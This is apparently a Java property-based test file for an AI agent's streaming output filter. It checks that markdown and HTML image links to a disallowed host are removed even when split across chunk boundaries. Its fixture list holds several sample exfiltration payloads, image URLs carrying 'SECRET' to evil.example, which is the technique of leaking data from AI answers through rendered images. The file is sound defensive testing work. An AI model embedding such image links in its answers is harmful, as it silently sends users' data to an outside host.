package dev.warden.dataflow;

import static org.assertj.core.api.Assertions.assertThat;

import dev.warden.core.streaming.HoldBackWindow;
import dev.warden.core.streaming.PlaneScreens;
import java.util.ArrayList;
import java.util.List;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.constraints.IntRange;

/**
 * No image URL through a stream (decision 0051): an image to a host not allowed, split at every chunk boundary (and
 * into random chunks), never reaches the reader; its marker does. Real plane, real {@link PlaneScreens} and
 * {@link HoldBackWindow} with the default window, as the agent loop uses them.
 */
class AnswerImageStreamingProperties {
    static final List<String> ANSWERS = List.of(
            "Here you go: ![x](https://evil.example/?d=SECRET) thanks",
            "<img src=\"https://evil.example/?d=SECRET\"> ok",
            "<IMG SRC=https://evil.example/?d=SECRET>",
            "See ![c][r]\n[r]: https://evil.example/?d=SECRET\nend",
            "x ![a very long alt text " + "word ".repeat(40) + "](https://evil.example/?d=SECRET)",
            "pad ".repeat(30) + "![x](https://evil.example/" + "p".repeat(200) + "?d=SECRET)");

    final DataFlowPlane plane = new DataFlowPlane(DataFlowConfig.builder().build());

    String stream(List<String> chunks) {
        return Fixtures.streamThrough(plane, chunks);
    }

    static void assertNoUrl(String delivered, String whole) {
        assertThat(delivered).as("from %s", whole).doesNotContain("SECRET").doesNotContain("evil.example/")
                .contains("[image removed: evil.example]");
    }

    @Example
    void an_image_split_at_every_boundary_never_reaches_the_reader() {
        for (String answer : ANSWERS) {
            for (int cut = 1; cut < answer.length(); cut++) {
                assertNoUrl(stream(List.of(answer.substring(0, cut), answer.substring(cut))), answer);
            }
            List<String> chars = new ArrayList<>();
            answer.chars().forEach(c -> chars.add(String.valueOf((char) c)));
            assertNoUrl(stream(chars), answer);
        }
    }

    @Property(tries = 200)
    void an_image_in_random_chunks_never_reaches_the_reader(@ForAll @IntRange(min = 0, max = 5) int which,
            @ForAll @IntRange(min = 1, max = 9) int size, @ForAll @IntRange(min = 0, max = 8) int offset) {
        String answer = ANSWERS.get(which);
        List<String> chunks = new ArrayList<>();
        int at = 0;
        for (int i = 0; at < answer.length(); i++) {
            int len = 1 + (size * (i + 1) + offset) % 11;
            chunks.add(answer.substring(at, Math.min(answer.length(), at + len)));
            at += len;
        }
        assertNoUrl(stream(chunks), answer);
    }

    @Example
    void plain_text_and_links_stream_unchanged() {
        String text = "Read [the report](https://evil.example/x) now! a < b, List<String> and [1] done.";
        for (int cut = 1; cut < text.length(); cut++) {
            assertThat(stream(List.of(text.substring(0, cut), text.substring(cut)))).isEqualTo(text);
        }
    }

    @Example
    void an_image_never_closed_is_removed_at_the_end() {
        String answer = "ok ![x](https://evil.example/?d=SECRET";
        assertNoUrl(stream(List.of(answer)), answer);
        String held = "ok ![x" + " y".repeat(5000) + "](https://evil.example/?d=SECRET)";
        assertNoUrl(stream(List.of(held.substring(0, 9000), held.substring(9000))), held);
    }
}
